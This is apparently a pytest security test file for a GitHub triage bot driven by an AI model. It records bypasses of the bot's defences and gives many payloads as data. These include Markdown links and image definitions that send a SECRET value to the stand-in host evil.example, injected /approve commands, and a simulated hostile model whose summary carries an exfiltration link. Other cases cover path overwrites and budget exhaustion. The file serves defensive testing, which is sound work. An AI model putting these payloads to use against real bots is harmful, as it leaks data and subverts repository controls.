"""Issue 13 ("Hostile input gets nowhere") attacked from outside, after it was built.

Each working attack is an ``xfail(strict=True)`` test: it fails today because the defence lets the input through,
and it will start passing (and so turn the suite red until the mark is removed) once the defence is fixed. The
plain tests are attacks the defences withstood, kept for the coverage they add to the existing tests.

What got through:

1. defuse: a reference definition inside a block quote whose destination is on the next quote line
   (``> [r]:`` / ``> //evil.example/x?d=SECRET``) stays live; ``[r]`` and ``![x][r]`` elsewhere link to and load
   from the other host (the ``\\S+`` after the line break reads the ``>`` marker as the destination).
2. defuse: nested link text whose links each lose an off-site target makes every removal expose the next ``](``
   in the same pass, so the ``_MANY`` bound never applies: 59k characters take seconds (event loop blocked).
3. defuse: closing keywords under ``_``/``__`` emphasis (``__Fixes__ #1``; ``**Fixes** #1`` is caught) and a
   closing keyword before an autolinked issue URL (``Closes <https://github.com/o/r/issues/1>``).
4. protected paths: a file proposed at the path of a folder that holds a protected *file* (README's example
   ``/deploy/prod.tf`` and a change at ``deploy``) is not protected, yet committed through the Git Trees API it
   replaces that folder, the protected file with it. (A file at a protected *folder's* own path, ``.github``, was
   let through too when this was written; bot/core/config.py now refuses it and the tests of it pass.)
5. ingress: reservations are taken for the Content-Length a client *announces*: two idle connections announcing
   25 MB and 7 MB (zero body bytes sent) hold the whole 32 MiB unverified budget, and GitHub's real deliveries
   are refused 503 for as long as the attacker keeps reconnecting.
6. writes: an issue's author closing and reopening an unlabelled issue costs one write (the "add a label" comment
   edited again) per reopen, with no limit: the installation's shared 500 writes an hour can be drained.
7. budgets: a model call that times out is settled at 0 tokens although the API received it (and here served
   it), and it is retried: calls the API answers too slowly are never counted against any ceiling.
"""

from __future__ import annotations

import asyncio
import copy
import json
import time
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest

import bot.core.defuse as defuse_module
from bot.core import config
from bot.core.defuse import defuse
from bot.core.markers import markers_in
from bot.run.runtime import Runtime
from bot.sandbox.anthropic import FakeAnthropic
from bot.sandbox.team import Team
from bot.settings import Settings
from bot.web.server import IN_FLIGHT, sign
from tests.conftest import INSTALLATION, SECRET, load_fixture
from tests.test_defuse import _parser, audit
from tests.test_ingress_limits import Serve, serve, webhook_head  # noqa: F401
from tests.test_protected_paths import workflow_change
from tests.test_workflows_e2e import REPO, body_of, bot, fake, issue_payload, posts, send, team  # noqa: F401

HOSTS = frozenset({"github.com"})
EXFIL = "//evil.example/x?d=SECRET"


def _sent_texts(sandbox: Any) -> list[tuple[str, str]]:
    """(request, text) for every string under a Markdown-bearing key of every write the sandbox received."""
    keys = {"title", "body", "message", "summary", "text"}
    out: list[tuple[str, str]] = []

    def walk(value: Any, key: str, where: str) -> None:
        if isinstance(value, dict):
            for k, v in value.items():
                walk(v, k, where)
        elif isinstance(value, list):
            for v in value:
                walk(v, key, where)
        elif isinstance(value, str) and key in keys:
            out.append((where, value))

    for r in sandbox.requests:
        if r.method in ("POST", "PATCH", "PUT") and not r.path.startswith("/_sandbox"):
            walk(r.json, "", f"{r.method} {r.path}")
    return out


# ==== 1. a definition in a block quote with its destination on the next quote line ============================

QUOTED_DEFINITIONS = [
    f"> [r]:\n> {EXFIL}\n\nSee [the report][r].",
    f"> > [r]:\n> > {EXFIL}\n\n![status][r]",
    f"- > [r]:\n  > {EXFIL}\n\n![status][r]",
    f"> - [r]:\n>   {EXFIL}\n\n[r]",
]


@pytest.mark.parametrize("text", QUOTED_DEFINITIONS)
def test_a_quoted_definition_whose_destination_is_on_the_next_quote_line_is_defused(text: str) -> None:
    out = defuse(text, hosts=HOSTS)
    assert audit(out, HOSTS) == [], out


async def test_a_hostile_models_quoted_definition_reaches_github_inert(bot: Any, sandbox: Any, team: Team) -> None:
    """Every step's summary carries the quoted definition; clean_for_github in the agent runtime and the GitHub
    client's defuse both let it through, so the step comments link to and load from evil.example."""
    payload = f"Done.\n\n> [the report]:\n> {EXFIL}\n\nSee [the report] and ![status][the report]."
    answer = team.respond

    async def respond(request: dict[str, Any]) -> Any:
        out = await answer(request)
        return dict(out, summary=payload) if isinstance(out, dict) else out

    team.fake.responder = respond
    await send(bot, sandbox, "issues", issue_payload(80, ["devops"], title="Deploy fails"))
    assert posts(sandbox, 80)[-1] == "approval"
    texts = _sent_texts(sandbox)
    assert any("evil.example/x?d=SECRET" in text for _, text in texts), "the payload never reached GitHub"
    live = [(where, problems) for where, text in texts if (problems := audit(text, HOSTS))]
    assert live == [], live


# ==== 2. nested link texts: each removal exposes the next ``](`` in the same pass ==============================

def _nested_removals(depth: int = 990, prefix: str = "") -> str:
    """Blocks of ``[`` * depth, a letter, ``]`` * depth and an off-site target per level: removing the innermost
    link leaves its text (``[...]``) against the next ``(//)``, which the same pass reads again."""
    block = "[" * depth + "t" + "]" * depth + "(//)" * depth
    return prefix + (block + "\n") * ((65_000 - len(prefix)) // (len(block) + 1))


# A fence that raw HTML swallowed: once the HTML is escaped the code blocks change, so _pass starts over with
# code=False and every removal is done twice.
RESTART = "<div x=1>\n```\nprose\n\n```\n@b\n```\n\n"


@pytest.mark.parametrize("prefix", ["", RESTART], ids=["plain", "with-a-restart"])
def test_nested_links_cost_a_bounded_number_of_reads(prefix: str, monkeypatch: pytest.MonkeyPatch) -> None:
    text = _nested_removals(prefix=prefix)
    assert len(text) < 65_536
    reads: list[int] = []
    real = defuse_module._target

    def counted(t: Any, i: int) -> Any:
        reads.append(i)
        return real(t, i)

    monkeypatch.setattr(defuse_module, "_target", counted)
    started = time.perf_counter()
    out = defuse(text, hosts=HOSTS)
    took = time.perf_counter() - started
    assert audit(out, HOSTS) == []  # the output is inert: the cost is the attack
    print(f"\n{len(text):,} characters: {len(reads):,} link reads, {took:.2f} s")
    # A bounded number of reads per pass (a restart with code=False is a second pass); no clock is asserted.
    assert len(reads) <= 2 * defuse_module._MANY, (len(reads), took)


# ==== 3. closing keywords GitHub reads that defuse does not see ================================================

def _rendered_text(body: str) -> str:
    """The text GitHub's reader of a rendered body sees: every inline's text, link texts included, markup gone."""
    parts: list[str] = []
    for token in _parser().parse(body):
        if token.type == "inline":
            parts += [c.content for c in token.children or [] if c.type in ("text", "softbreak", "code_inline")]
            parts.append("\n")
    return "".join(parts)


CLOSING = ["__Fixes__ #1", "_Closes #1_", "Closes <https://github.com/o/r/issues/1>"]


def test_the_rendered_text_oracle_sees_what_defuse_catches() -> None:
    """``**Fixes** #1`` renders as "Fixes #1" and defuse breaks it: the same rendering by ``__`` must be too."""
    import re

    keyword = re.compile(r"(?i)\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:#\d|https://github\.com/)")
    assert keyword.search(_rendered_text("**Fixes** #1"))
    assert not keyword.search(_rendered_text(defuse("**Fixes** #1", hosts=HOSTS)))


@pytest.mark.parametrize("text", CLOSING)
def test_closing_keywords_under_underscore_emphasis_or_before_an_autolink_are_broken(text: str) -> None:
    import re

    keyword = re.compile(r"(?i)\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:#\d|https://github\.com/)")
    assert keyword.search(_rendered_text(text)), "the oracle must see the raw keyword"
    assert not keyword.search(_rendered_text(defuse(text, hosts=HOSTS))), defuse(text, hosts=HOSTS)


# ==== 4. a file at the path of a folder holding protected files ===============================================

MIGRATIONS = config.RepoConfig(protected_paths=("migrations/",))
WORKFLOWS_ONLY = config.RepoConfig(protected_paths=(".github/workflows/",), allow_workflow_changes=True)


@pytest.mark.parametrize(("cfg", "path"), [
    (config.RepoConfig(), ".github"), (config.RepoConfig(), ".github/"), (config.RepoConfig(), ".claude"),
    (MIGRATIONS, "migrations"), (MIGRATIONS, "app/migrations"), (WORKFLOWS_ONLY, ".github/workflows")],
    ids=[".github", ".github/", ".claude", "migrations", "app/migrations", ".github/workflows"])
def test_a_file_at_a_protected_folders_own_path_is_protected(cfg: config.RepoConfig, path: str) -> None:
    """The Git Trees API writes the bot's changes as ``{"path": p, "type": "blob"}`` over ``base_tree``; a tree
    holds one entry per name, so a blob named ``.github`` takes the place of the folder ``.github/``. (Held since
    bot/core/config.py asks the path itself as a folder; it did not when this attack was first written.)"""
    assert cfg.protected(path)


FILE_PATTERNS = config.RepoConfig(protected_paths=("/deploy/prod.tf", ".github/workflows/ci.yml", "migrations/*.sql"),
                                  allow_workflow_changes=True)


@pytest.mark.parametrize("path", ["deploy", ".github/workflows", ".github", "migrations"])
def test_a_file_replacing_a_folder_that_holds_a_protected_file_is_protected(path: str) -> None:
    """README's own example protects ``/deploy/prod.tf``: a change whose path is ``deploy`` deletes it."""
    assert FILE_PATTERNS.protected(path)


async def test_an_implementer_replacing_the_folder_of_a_protected_file_is_refused(bot: Any, sandbox: Any,
                                                                                 team: Team) -> None:
    sandbox.set_permission(REPO, "maintainer", "maintain")
    sandbox.set_file(REPO, ".github/triage-lead.yml", 'protected_paths: ["/deploy/prod.tf"]\n')
    sandbox.set_file(REPO, "deploy/prod.tf", 'resource "x" "y" {}\n')
    team.script["IMPLEMENTATION"] = [workflow_change("deploy"), workflow_change("deploy")]
    await send(bot, sandbox, "issues", issue_payload(81, ["devops"]))
    assert "approval" not in posts(sandbox, 81), posts(sandbox, 81)  # today: reviewed and put up for /approve
    assert "protected paths (`deploy`)" in body_of(sandbox, 81, "escalation")


# ==== 5. ingress: announced lengths reserve the unverified budget =============================================

async def test_idle_connections_announcing_big_bodies_do_not_lock_out_real_deliveries(serve: Serve) -> None:  # noqa: F811
    bot = await serve(body_deadline=10.0, header_timeout=5.0)  # the production defaults, 32 MiB of unverified bytes
    cap = bot.runtime.app[IN_FLIGHT].cap
    announced = [25 * 1024 * 1024, cap - 25 * 1024 * 1024]  # GitHub's largest, and the rest of the cap
    idle = []
    try:
        for n, length in enumerate(announced):  # headers only: not one body byte is sent
            reader, writer = await asyncio.open_connection("127.0.0.1", bot.port)
            writer.write(webhook_head(length, delivery=f"idle-{n}", signature="sha256=" + "0" * 64))
            await writer.drain()
            idle.append(writer)
        await asyncio.sleep(0.3)  # (an announcement would have been counted by now; bytes alone are)
        assert bot.runtime.app[IN_FLIGHT].held == 0
        ping = json.dumps({"zen": "Keep it logically awesome.", "hook_id": 1}).encode()
        headers = {"X-GitHub-Event": "ping", "X-GitHub-Delivery": "real-1", "X-Hub-Signature-256": sign(SECRET, ping),
                   "Content-Type": "application/json"}
        async with aiohttp.ClientSession() as http, http.post(f"{bot.url}/webhook", data=ping, headers=headers) as r:
            status = r.status
        assert status == 200, f"GitHub's signed ping was answered {status} while two idle sockets held the budget"
    finally:
        for writer in idle:
            writer.close()


# ==== 6. an issue author reopening an unlabelled issue ========================================================

def _by(payload: dict[str, Any], login: str) -> dict[str, Any]:
    user = {**payload["issue"]["user"], "login": login, "type": "User"}
    payload["issue"]["user"], payload["sender"] = user, user
    return payload


async def test_reopening_an_unlabelled_issue_again_and_again_costs_no_write_each_time(bot: Any, sandbox: Any,
                                                                                       team: Team) -> None:
    sandbox.set_permission(REPO, "mallory", "read")
    opened = _by(issue_payload(82, [], title="Hello", body="Just saying hi"), "mallory")
    await send(bot, sandbox, "issues", opened)
    assert [w.kind for w in sandbox.writes if w.number == 82] == ["comment"]
    before = len(sandbox.writes)
    for _ in range(20):
        reopened = copy.deepcopy(opened)
        reopened["action"] = "reopened"
        await send(bot, sandbox, "issues", reopened)
    spent = [w.kind for w in sandbox.writes[before:]]
    print(f"\n20 reopens by an outsider: {len(spent)} writes ({sorted(set(spent))})")
    assert len(spent) == 0, spent  # it was: 20 comment_edit writes, each paced as a run's own write


# ==== 7. a model call that times out is counted as nothing ====================================================

@pytest.fixture
async def slow_model(settings: Settings, fake: FakeAnthropic, sandbox: Any, aiohttp_client: Any  # noqa: F811
                     ) -> AsyncIterator[tuple[Runtime, Any]]:
    """The bot with a 0.3 s call timeout and two attempts, against a Messages API that answers after 0.8 s."""
    sandbox.seed_from_payload(load_fixture("issues.opened.json"))
    s = settings.with_overrides(anthropic_api_key="sk-ant-test-key", anthropic_base_url=fake.url)
    rt = await Runtime(s, github_max_wait=5.0, github_backoff=0.01, agent_options={
        "retry_base": 0.01, "max_retry_wait": 1.0, "call_timeout": 0.3, "attempts": 2, "max_tokens": 2_000}).start()
    fake.delay = 0.8
    yield rt, await aiohttp_client(rt.web_app())
    await rt.close()


async def test_calls_that_time_out_still_count_against_the_budget(slow_model: Any, sandbox: Any, fake: FakeAnthropic,
                                                                  team: Team) -> None:
    rt, _ = slow_model
    await send(slow_model, sandbox, "issues", issue_payload(83, ["devops"]))
    async with asyncio.timeout(30):  # the server finishes the requests the client gave up on
        while len(fake.usage_log) < 2:
            await asyncio.sleep(0.05)
    served = sum(u.get("input_tokens", 0) + u.get("output_tokens", 0) + u.get("cache_read_input_tokens", 0)
                 + u.get("cache_creation_input_tokens", 0) for u in fake.usage_log)
    counted = await rt.store.spent(f"day:{INSTALLATION}:{time.strftime('%Y-%m-%d', time.gmtime())}")
    print(f"\n{len(fake.requests)} requests received, {served:,} tokens served, {counted:,} counted")
    assert len(fake.requests) == 2 and served > 0  # both attempts reached the API and were answered
    assert counted >= served, (counted, served)


# ==== defences that held (coverage the existing tests lack) ===================================================

HELD = [
    # markdown links: casing, userinfo, ports, backslashes, protocol-relative, nested, titles, line breaks
    "[x](HTTPS://evil.example/a)", "[x](https://github.com:443@evil.example/)", "[x](/\\/evil.example)",
    "[x](\\/\\/evil.example)", "[x](https:/\\evil.example)", "[x](https://evil.example%2f@github.com)",
    "[x](https://github.com．evil.example)", "[x](https://evil.example#@github.com)",
    "[x](<https://evil.example/a)b> 'ti)tle')", "[a\n](\nhttps://evil.example\n)",
    "[![i](https://evil.example/i.png)](https://github.com/a)", "[![i](https://github.com/i.png)](https://evil.example)",
    # definitions: nested containers on one line, tab, angle destination on the next line, footnotes
    "> > - 1. [r]: //evil.example\n\n![x][r]", "[r]:\t//evil.example\n\n![x][r]", "[r]:\n<//evil.example>\n\n[r]",
    "> [r]:\n> <https://evil.example>\n\n![x][r]", "[^1]: https://evil.example/x\n\nsee[^1]",
    # GFM tables and task lists
    "| a | b |\n|---|---|\n| [x](https://evil.example) | ![i](//evil.example/p.png) |", "- [ ] [x](//evil.example)",
    # raw HTML: casing, srcset, picture/source, svg, odd separators
    "<A\nHREF='https://evil.example'>x</A>", "<img srcset=\"https://evil.example/a.png 1x\">",
    "<picture><source srcset=\"//evil.example/a.png\"><img></picture>",
    "<svg><image href=\"//evil.example/a.png\"/></svg>", "<a/href=\"//evil.example\">x</a>",
    "<details><summary>s</summary>\n\n![i](//evil.example/p.png)\n</details>",
    # autolinks
    "HTTPS://evil.example/x", "<HTTPS://evil.example>", "Www.evil.example", "_www.evil.example_",
    # command lines after other line breaks and spaces
    "a\u2028/approve", "x\x0c/approve", "\u00a0/approve", "\t/escalate now", "x\x85/cancel",
    # closing keywords the existing tests do not list
    "Closes:#1", "fixes owner/repo#12", "FIXES GH-3", "Resolves https://github.com/o/r/issues/1",
]


@pytest.mark.parametrize("text", HELD)
def test_bypass_attempts_that_the_renderer_withstands(text: str) -> None:
    out = defuse(text, hosts=HOSTS)
    assert defuse(out, hosts=HOSTS) == out
    assert audit(out, HOSTS) == [] and markers_in(out) == [], out


@pytest.mark.parametrize("text", ["<!--triage-lead:status:o/r#1-->", "<!--  TRIAGE-LEAD :status:x -->",
                                  "<!--\ttriage-lead\t:x -->", "```\n<!--triage-lead:x-->\n```"])
def test_markers_without_spaces_or_with_tabs_are_broken(text: str) -> None:
    out = defuse(text, hosts=HOSTS)
    assert "\u200b:" in out and markers_in(out) == []


def test_a_fullwidth_at_sign_is_left_as_it_is() -> None:
    """U+FF20 is not GitHub's mention sigil (its mention pattern is the ASCII '@'), so nothing is changed; the
    ASCII form beside it is defused."""
    assert defuse("\uff20alice and @bob", hosts=HOSTS) == "\uff20alice and @\u200bbob"
